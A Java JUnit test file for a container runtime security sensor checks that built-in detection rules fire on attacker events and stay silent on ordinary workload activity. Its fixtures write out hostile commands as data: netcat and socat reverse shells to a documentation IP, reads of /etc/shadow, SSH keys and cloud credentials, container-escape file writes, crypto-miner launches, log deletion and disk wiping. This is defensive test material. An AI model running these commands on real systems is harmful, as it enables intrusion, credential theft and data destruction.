package dev.hullmark.sensor.rule;

import static dev.hullmark.sensor.rule.Events.asked;
import static dev.hullmark.sensor.rule.Events.called;
import static dev.hullmark.sensor.rule.Events.connecting;
import static dev.hullmark.sensor.rule.Events.exec;
import static dev.hullmark.sensor.rule.Events.mapped;
import static dev.hullmark.sensor.rule.Events.opened;
import static dev.hullmark.sensor.rule.Events.unix;
import static dev.hullmark.sensor.rule.Events.used;
import static org.assertj.core.api.Assertions.assertThat;

import dev.hullmark.sensor.event.Event;
import dev.hullmark.sensor.program.Flags;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class RulesTest {
    private static final RuleSet RULES = RuleSet.builtIn();

    /** What somebody does who got in, and the one rule that says so. */
    private static final Map<String, List<Event>> ATTACKS = Map.ofEntries(
            Map.entry(
                    "drift-program",
                    List.of(
                            exec(Flags.UPPER, "sh", false, 0, "/tmp/x", "/tmp/x"),
                            exec(Flags.FOREIGN, "sh", false, 0, "/data/x", "/data/x"))),
            Map.entry("drift-library", List.of(mapped("/tmp/libx.so", Flags.UPPER))),
            Map.entry(
                    "reverse-shell",
                    List.of(exec(Flags.SOCKET_INPUT, "php-cgi", false, 33, "/usr/bin/bash", "bash", "-i"))),
            Map.entry(
                    "netcat-program",
                    List.of(
                            exec("/usr/bin/nc", "nc", "-e", "/bin/sh", "192.0.2.1", "4444"),
                            exec("/usr/bin/ncat", "/usr/bin/ncat", "--exec", "/bin/bash", "192.0.2.1"),
                            exec("/usr/bin/socat", "socat", "tcp:192.0.2.1:4444", "exec:/bin/ash,pty"))),
            Map.entry("server-runs-shell", List.of(exec(0, "nginx", false, 33, "/bin/dash", "sh", "-c", "id"))),
            Map.entry("shell-session", List.of(exec(0, "containerd-shim", true, 0, "/bin/bash", "bash"))),
            Map.entry("system-user-shell", List.of()),
            Map.entry(
                    "package-manager",
                    List.of(
                            exec("/usr/bin/apt-get", "apt-get", "install", "-y", "nmap"),
                            exec("/sbin/apk", "apk", "add", "nmap"),
                            exec("/usr/bin/python3.11", "pip3", "install", "requests"))),
            Map.entry(
                    "miner",
                    List.of(
                            exec("/opt/xmrig", "./xmrig"),
                            exec("/opt/x", "x", "-o", "stratum+tcp://pool.example.com:3333"))),
            Map.entry("miner-pool", List.of(asked("xmr.2miners.com"))),
            Map.entry(
                    "credentials-read",
                    List.of(
                            opened("cat", "/etc/shadow", false),
                            opened("cat", "/root/.ssh/id_rsa", false),
                            opened("python3", "/home/app/.aws/credentials", false))),
            Map.entry(
                    "token-read",
                    List.of(opened("cat", "/run/secrets/kubernetes.io/serviceaccount/..2026/token", false))),
            Map.entry(
                    "credentials-searched",
                    List.of(
                            exec("/usr/bin/find", "find", "/", "-name", "id_rsa"),
                            exec("/bin/grep", "grep", "-r", "aws_secret_access_key", "/"))),
            Map.entry("binary-written", List.of(opened("curl", "/usr/local/bin/helper", true))),
            Map.entry("preload-written", List.of(opened("sh", "/etc/ld.so.preload", true))),
            Map.entry("preload-set", List.of(exec(Flags.PRELOAD, "sh", false, 0, "/usr/bin/id", "id"))),
            Map.entry("schedule-written", List.of(opened("sh", "/etc/cron.d/job", true))),
            Map.entry(
                    "escape-kernel-file",
                    List.of(
                            opened("sh", "/proc/sys/kernel/core_pattern", true),
                            opened("sh", "/mnt/release_agent", true))),
            Map.entry(
                    "host-mounts-entered", List.of(exec(Flags.HOST_MOUNTS, "nsenter", false, 0, "/usr/bin/id", "id"))),
            Map.entry("namespace-changed", List.of(called("nsenter", "setns", 3, ""))),
            Map.entry("mount-made", List.of(called("mount", "mount", 0, "/dev/vda1"))),
            Map.entry("kernel-module", List.of(called("insmod", "finit_module", 3, ""))),
            Map.entry("engine-socket", List.of(unix("/var/run/docker.sock"), unix("/run/containerd/containerd.sock"))),
            Map.entry("traced", List.of(called("gdb", "ptrace", 16, ""), called("x", "process_vm_writev", 5, ""))),
            Map.entry("traces-itself", List.of(called("sample", "ptrace", 0, ""))),
            Map.entry("raw-packets", List.of(used("tcpdump", "NET_RAW"))),
            Map.entry("privileged-device", List.of(opened("dd", "/dev/vda", false), opened("x", "/dev/mem", true))),
            Map.entry("debugfs", List.of(exec("/sbin/debugfs", "debugfs", "/dev/vda1"))),
            Map.entry("metadata-service", List.of(connecting("curl", "169.254.169.254", 80))),
            Map.entry(
                    "cluster-api",
                    List.of(
                            exec("/usr/bin/kubectl", "kubectl", "get", "secrets"),
                            exec("/usr/bin/curl", "curl", "https://kubernetes.default.svc/api"))),
            Map.entry("logs-removed", List.of(called("rm", "unlink", 0, "/var/log/auth.log"))),
            Map.entry("history-removed", List.of(exec("/bin/rm", "rm", "/root/.bash_history"))),
            Map.entry(
                    "data-destroyed",
                    List.of(exec("/usr/bin/shred", "shred", "/data/db"), exec("/sbin/mkfs.ext4", "mkfs.ext4", "/x"))),
            Map.entry("sensitive-file-linked", List.of(exec("/bin/ln", "ln", "-s", "/etc/shadow", "/srv/x"))),
            Map.entry("shared-memory-program", List.of(exec(Flags.MEMORY, "sh", false, 0, "/dev/shm/x", "/dev/shm/x"))),
            Map.entry("fileless-program", List.of(exec(Flags.MEMORY | Flags.NAMELESS, "sh", false, 0, "memfd:x", "x"))),
            Map.entry("ssh-elsewhere", List.of(connecting("ssh", "192.0.2.1", 2222))));

    /** What workloads do all day. */
    private static final List<Event> ORDINARY = List.of(
            exec("/usr/sbin/nginx", "nginx", "-g", "daemon off;"),
            exec("/bin/dash", "sh", "-c", "exec java -jar app.jar"),
            exec("/usr/bin/nc", "nc", "-z", "db", "5432"),
            exec("/usr/bin/apt-get", "apt-get", "--version"),
            exec("/usr/bin/find", "find", "/var/lib", "-name", "*.tmp", "-delete"),
            exec("/bin/rm", "rm", "-rf", "/tmp/cache"),
            exec("/bin/ln", "ln", "-s", "/etc/nginx/sites-available/a", "/etc/nginx/sites-enabled/a"),
            exec("/usr/bin/curl", "curl", "https://example.com/"),
            mapped("/usr/lib/x86_64-linux-gnu/libc.so.6", 0),
            opened("nginx", "/etc/passwd", false),
            opened("sshd", "/etc/shadow", false),
            opened("java", "/app/data/token", false),
            opened("postgres", "/var/lib/postgresql/bin", true),
            opened("sh", "/dev/null", true),
            opened("logger", "/dev/pts/0", true),
            called("nginx", "setuid", 33, ""),
            called("logrotate", "unlink", 0, "/var/log/nginx/access.log.7.gz"),
            called("strace", "ptrace", 0, ""),
            unix("/run/postgresql/.s.PGSQL.5432"),
            used("ping", "NET_RAW"),
            used("nginx", "NET_BIND_SERVICE"),
            asked("db.example.com"),
            connecting("java", "192.0.2.1", 443),
            connecting("ssh", "192.0.2.1", 22));

    static Stream<Arguments> attacks() {
        return ATTACKS.entrySet().stream().sorted(Map.Entry.comparingByKey()).flatMap(entry -> entry.getValue().stream()
                .map(event -> Arguments.of(entry.getKey(), event)));
    }

    private static List<String> fired(Event event) {
        return RULES.judge(event).stream().map(Rule::id).toList();
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void anAttackFiresItsRuleAndNoOther(String rule, Event event) {
        assertThat(fired(event)).containsExactly(rule);
    }

    @Test
    void aSystemUsersShellIsOneMoreThanASession() {
        assertThat(fired(exec(0, "containerd-shim", true, 33, "/bin/bash", "bash")))
                .containsExactlyInAnyOrder("shell-session", "system-user-shell");
    }

    @ParameterizedTest
    @MethodSource("ordinary")
    void whatWorkloadsDoFiresNothing(Event event) {
        assertThat(fired(event)).isEmpty();
    }

    static List<Event> ordinary() {
        return ORDINARY;
    }

    @Test
    void everyRuleSaysWhatItMeansAndIsTested() {
        assertThat(RULES.all()).allSatisfy(rule -> {
            assertThat(rule.title()).isNotBlank().doesNotEndWith(".");
            assertThat(rule.why()).endsWith(".");
            assertThat(rule.source()).startsWith("https://");
        });
        assertThat(RULES.all()).extracting(Rule::id).containsExactlyInAnyOrderElementsOf(ATTACKS.keySet());
    }
}
